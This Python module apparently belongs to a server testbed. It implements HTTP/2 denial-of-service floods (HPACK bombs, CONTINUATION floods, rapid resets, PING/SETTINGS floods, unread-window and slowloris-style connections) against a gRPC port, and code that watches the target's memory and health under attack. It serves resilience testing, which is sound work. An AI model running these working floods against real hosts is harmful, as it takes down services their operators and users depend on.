"""What a stranger may send to a public gRPC port to bring it down, and what that does to it.

Over TLS, as on the Internet. `python -m mediafleet_testbed.load.floods KIND PORT SECONDS COUNT
[HOST]` is one attack, in a process of its own. HTTP/2: RFC 9113; HPACK: RFC 7541.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

import aiohttp

from mediafleet_common.formats.node_url import NodeUrl
from mediafleet_common.probes.ping import NodeClient
from mediafleet_testbed.load.h2_load import Task, frame, headers

LOCAL: Final = "127.0.0.1"
_HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BATCH: Final = 64
_PATIENCE_SECONDS: Final = 30.0
_HEAD: Final = headers(Task("a", 1, True, 0.0, 1, ()))


def _context(protocol: str = "h2") -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


def _streams() -> Iterator[int]:
    yield from range(1, 2**31 - 1, 2)


def hpack_bombs() -> Iterator[bytes]:
    """A table entry of 4 KB, and then 16,000 times one byte that stands for it."""
    entry = b"\x40\x01x" + b"\x7f" + _integer(4000 - 127) + b"a" * 4000
    for stream in _streams():
        block = entry + b"\xbe" * (16_000 - len(entry))
        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, block)


def _integer(rest: int) -> bytes:
    out = bytearray()
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out) + bytes([rest])


def continuations() -> Iterator[bytes]:
    """A header block that never ends."""
    yield frame(_HEADERS, 0, 1, _HEAD)
    piece = b"\x00\x01x\x7f" + _integer(16_000 - 127) + b"a" * 16_000
    while True:
        yield frame(_CONTINUATION, 0, 1, piece)


def small_continuations() -> Iterator[bytes]:
    """The same by frames that hold nothing."""
    yield frame(_HEADERS, 0, 1, _HEAD)
    while True:
        yield frame(_CONTINUATION, 0, 1) * _BATCH


def rapid_resets() -> Iterator[bytes]:
    """Requests that are taken back at once."""
    streams = _streams()
    while True:
        yield b"".join(
            frame(_HEADERS, _END_HEADERS, stream, _HEAD)
            + frame(_RESET, 0, stream, struct.pack(">I", 8))
            for stream in (next(streams) for _ in range(_BATCH))
        )


def pings() -> Iterator[bytes]:
    """Frames that must be answered, by one who does not read."""
    while True:
        yield frame(_PING, 0, 0, b"12345678") * _BATCH


def settings() -> Iterator[bytes]:
    """The same with settings."""
    while True:
        yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * _BATCH


def unread_answers() -> Iterator[bytes]:
    """Requests without end, and windows as wide as they come, by one who does not read."""
    yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))
    yield frame(_WINDOW, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
    body = struct.pack(">BI", 0, 0)
    for stream in _streams():
        yield frame(_HEADERS, _END_HEADERS, stream, _HEAD) + frame(0, _END_STREAM, stream, body)


FLOODS: Final[dict[str, Callable[[], Iterator[bytes]]]] = {
    each.__name__: each
    for each in (
        hpack_bombs,
        continuations,
        small_continuations,
        rapid_resets,
        pings,
        settings,
        unread_answers,
    )
}


def flood(kind: str, port: int, seconds: float, connections: int, host: str = LOCAL) -> None:
    """So many connections at a time, each opened again when it is hung up on."""
    until = time.monotonic() + seconds
    threads = [
        threading.Thread(target=_flood, args=(FLOODS[kind], (host, port), until))
        for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _flood(attack: Callable[[], Iterator[bytes]], where: tuple[str, int], until: float) -> None:
    context = _context()
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            plain = socket.create_connection(where, timeout=5)
            with context.wrap_socket(plain) as connection:
                connection.settimeout(0.5)
                connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
                for piece in attack():
                    if time.monotonic() > until:
                        return
                    connection.sendall(piece)


OCCUPATIONS: Final[dict[str, tuple[str, bytes]]] = {
    "silent_tcp": ("", b""),
    "idle_tls": ("h2", b""),
    "half_requests": ("http/1.1", b"GET /summary HTTP/1.1\r\nHost: "),
    "unread_pages": ("http/1.1", b"GET /summary HTTP/1.1\r\nHost: a\r\n\r\n"),
}
"""Protocol (none: no TLS) and what is said on connections that then stand."""


async def occupy(kind: str, port: int, seconds: float, connections: int, host: str = LOCAL) -> int:
    """So many connections that say little and read nothing; how many stand in the end."""
    protocol, said = OCCUPATIONS[kind]
    context = _context(protocol) if protocol else None
    turns = asyncio.Semaphore(_BATCH)
    writers: list[asyncio.StreamWriter] = []

    async def one() -> None:
        async with turns:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection(host, port, ssl=context)
                writers.append(writer)
                writer.write(said)

    await asyncio.gather(*(one() for _ in range(connections)))
    await asyncio.sleep(seconds)
    standing = sum(not writer.transport.is_closing() for writer in writers)
    for writer in writers:
        writer.transport.abort()
    return standing


@dataclass(slots=True)
class Watched:
    """What an attack did, as its neighbours saw it."""

    most_mb: float = 0.0
    health_seconds: list[float] = field(default_factory=list)
    """Of each look at /healthz."""
    answered: int = 0
    failed: list[str] = field(default_factory=list)
    """Calls of well-behaved gateways that got no answer, and why."""
    call_seconds: list[float] = field(default_factory=list)


def resident_mb(pid: int) -> float:
    """Memory of a process."""
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096 / 1e6


async def watch(pid: int, port: int, http: int, stop: asyncio.Event) -> Watched:
    """Look at a server under attack until `stop`: memory, health, and calls of two gateways, one
    on a connection that lasts and one on a new connection for each call."""
    seen = Watched()
    url = NodeUrl("https", "127.0.0.1", port)
    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(_health(http, stop, seen))
        tasks.create_task(_lasting(url, stop, seen))
        tasks.create_task(_fresh(url, stop, seen))
        while not stop.is_set():
            seen.most_mb = max(seen.most_mb, resident_mb(pid))
            await asyncio.sleep(0.05)
    return seen


async def _health(http: int, stop: asyncio.Event, seen: Watched) -> None:
    async with aiohttp.ClientSession() as session:
        while not stop.is_set():
            began = time.monotonic()
            async with session.get(f"http://127.0.0.1:{http}/healthz") as response:
                assert response.status == 200
            seen.health_seconds.append(time.monotonic() - began)
            await asyncio.sleep(0.1)


async def _lasting(url: NodeUrl, stop: asyncio.Event, seen: Watched) -> None:
    async with NodeClient(url) as client:
        while not stop.is_set():
            await _call(client, seen)
            await asyncio.sleep(0.05)


async def _fresh(url: NodeUrl, stop: asyncio.Event, seen: Watched) -> None:
    while not stop.is_set():
        async with NodeClient(url) as client:
            await _call(client, seen)
        await asyncio.sleep(0.05)


async def _call(client: NodeClient, seen: Watched) -> None:
    began = time.monotonic()
    answer = None
    # A connection may take longer on a busy machine than the client waits for one.
    while answer is None and time.monotonic() - began < _PATIENCE_SECONDS:
        answer = await client.orchestrator_info(20.0)
        if answer is None and not client.refusal.startswith("no connection in"):
            break
    if answer is None:
        seen.failed.append(client.refusal)
    else:
        seen.answered += 1
    seen.call_seconds.append(time.monotonic() - began)


def main() -> int:
    """One attack."""
    kind, port, seconds, count = sys.argv[1], *map(int, sys.argv[2:5])
    host = sys.argv[5] if len(sys.argv) > 5 else LOCAL
    if kind in FLOODS:
        flood(kind, port, seconds, count, host)
    else:
        print(asyncio.run(occupy(kind, port, seconds, count, host)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
